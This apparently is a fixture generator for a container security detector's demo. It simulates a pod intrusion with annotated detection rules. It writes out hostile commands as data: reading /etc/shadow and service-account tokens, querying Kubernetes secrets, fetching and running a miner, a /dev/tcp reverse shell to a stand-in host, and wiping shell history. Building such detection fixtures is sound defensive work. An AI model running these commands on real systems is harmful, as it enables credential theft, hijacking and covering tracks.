// The README's demo: an intrusion into a shop's pod, start to finish, in about forty events.
//
//  1. The storefront is a Node.js server running as root (as too many images do).
//  2. A command injection in its image-resize endpoint makes it run the attacker's commands
//     through child_process.exec, i.e. `sh -c` (Shell Spawned in Container).
//  3. Reconnaissance: id, then /etc/shadow (Sensitive Account File Read) and the pod's
//     service-account token (Kubernetes Service Account Token Read).
//  4. Tools: apt-get install curl (Package Manager Run in Container); curl asks the API server for
//     secrets (Kubernetes API Contacted from Container).
//  5. A miner is downloaded to /tmp and started (Crypto Miner Executed — also drift and /tmp
//     execution, reported with rule_matching: all) and connects to a pool (Outbound Connection to
//     Mining Pool Port).
//  6. A reverse shell back to the attacker (Reverse Shell Redirected to Network Socket).
//  7. The attacker wipes root's shell history (Log or Shell History Cleared).

import { CREATE, TRUNCATE, SampleFile } from './dsl.mjs';
import { NODEAPP, T0, startContainer } from './common.mjs';

export function demoFile() {
  const f = new SampleFile('demo-attack.jsonl', T0 + 14_400_000_000_000n);
  f.block('intrusion into the storefront pod', (s) => {
    const tini = startContainer(s, NODEAPP, 41001, '/sbin/tini', ['/sbin/tini', '--', 'node', 'server.js'], { cwd: '/app' });
    const w = tini.spawn(41002, '/usr/local/bin/node', ['node', 'server.js']);
    w.cat('/app/package.json');
    w.accept(19, '203.0.113.50', 61422, '10.244.1.23', 3000);
    w.cat('/app/routes/resize.js');
    s.wait(2);
    const sh = w.spawn(41102, '/bin/sh', ['sh', '-c', 'id; cat /etc/shadow; cat /var/run/secrets/kubernetes.io/serviceaccount/token']);
    sh.spawn(41103, '/usr/bin/id', ['id']);
    sh.spawn(41104, '/bin/cat', ['cat', '/etc/shadow']).cat('/etc/shadow');
    sh.spawn(41105, '/bin/cat', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'])
      .cat('/var/run/secrets/kubernetes.io/serviceaccount/token');
    s.wait(5);
    const sh2 = w.spawn(41110, '/bin/sh', ['sh', '-c', 'apt-get install -y curl && curl -sk https://10.96.0.1/api/v1/namespaces/shop/secrets']);
    const apt = sh2.spawn(41111, '/usr/bin/apt-get', ['apt-get', 'install', '-y', 'curl']);
    apt.spawn(41112, '/usr/bin/dpkg', ['/usr/bin/dpkg', '--unpack', '/var/cache/apt/archives/curl_7.88.1-10_amd64.deb'])
      .writeFile('/usr/bin/curl.dpkg-new', CREATE);
    sh2.spawn(41113, '/usr/bin/curl', ['curl', '-sk', 'https://10.96.0.1/api/v1/namespaces/shop/secrets']).dial('10.96.0.1', 443);
    s.wait(20);
    const sh3 = w.spawn(41120, '/bin/sh', ['sh', '-c', 'curl -so /tmp/.x/kworkerds http://203.0.113.50/m && chmod +x /tmp/.x/kworkerds && /tmp/.x/kworkerds -o stratum+tcp://198.51.100.23:3333 -B']);
    sh3.spawn(41121, '/usr/bin/curl', ['curl', '-so', '/tmp/.x/kworkerds', 'http://203.0.113.50/m']).writeFile('/tmp/.x/kworkerds', TRUNCATE);
    const miner = sh3.spawn(41122, '/tmp/.x/kworkerds', ['/tmp/.x/kworkerds', '-o', 'stratum+tcp://198.51.100.23:3333', '-B'], { upper: true });
    miner.dial('198.51.100.23', 3333);
    s.wait(30);
    const rev = w.spawn(41130, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1']);
    const sock = rev.dial('203.0.113.50', 4444);
    rev.dup2(sock, 1);
    rev.dup2(1, 2);
    rev.dup2(1, 0);
    s.wait(60);
    rev.spawn(41131, '/bin/rm', ['rm', '-f', '/root/.bash_history']).unlink('/root/.bash_history');
  });
  return f;
}
